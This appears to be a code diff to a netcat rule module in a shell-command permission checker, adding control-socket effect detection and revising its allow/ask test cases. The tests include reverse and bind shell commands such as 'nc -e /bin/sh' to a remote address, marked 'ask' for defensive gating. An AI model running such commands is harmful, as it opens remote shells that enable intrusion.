@@ -4,6 +4,7 @@ import type { Effect } from "../core/effects/effect.ts";
 import { optionValues, readArguments } from "../core/effects/options.ts";
 import type { Inner, Invocation, ProgramPack, Reading } from "../core/effects/pack.ts";
 import { textOf, type Word } from "../core/effects/words.ts";
+import type { Facts } from "../core/facts.ts";
 
 /** Options of OpenBSD's, the traditional, and Nmap's netcat that take a value. */
 const VALUES =
@@ -20,8 +21,8 @@ export const netcat: ProgramPack = {
     { run: "nc -zv localhost 5432", expect: "allow" },
     { run: "nc -l 8080", expect: "allow" },
     { run: "echo ping | nc -w 1 localhost 6379", expect: "allow" },
-    { run: "echo 'disable server web/a' | socat stdio /run/haproxy/admin.sock", expect: "ask" },
-    { run: "echo 'show servers state' | socat stdio /run/haproxy/admin.sock", expect: "allow" },
+    { run: "echo 'disable server web/a' | nc -U /run/haproxy/admin.sock", expect: "ask" },
+    { run: "echo 'show servers state' | nc -U /run/haproxy/admin.sock", expect: "allow" },
     { run: "nc -e /bin/sh 203.0.113.7 4444", expect: "ask" },
     { run: "ncat --exec '/bin/bash' -l 4444", expect: "ask" },
     { run: "nc 203.0.113.7 4444 -c bash", expect: "ask" },
@@ -29,10 +30,10 @@ export const netcat: ProgramPack = {
   ],
 };
 
-function read(command: Invocation): Reading {
+function read(command: Invocation, facts: Facts): Reading {
   const args = readArguments(command.argv.slice(1), { values: VALUES });
-  const programs = optionValues(args, "e", "c", "exec", "sh-exec");
-  return handed(command, programs);
+  const { effects, inner = [] } = handed(command, optionValues(args, "e", "c", "exec", "sh-exec"));
+  return { effects: [...effects, ...effectsOnControlSocket(command, facts)], inner };
 }
 
 function handed(command: Invocation, programs: readonly Word[]): Reading {
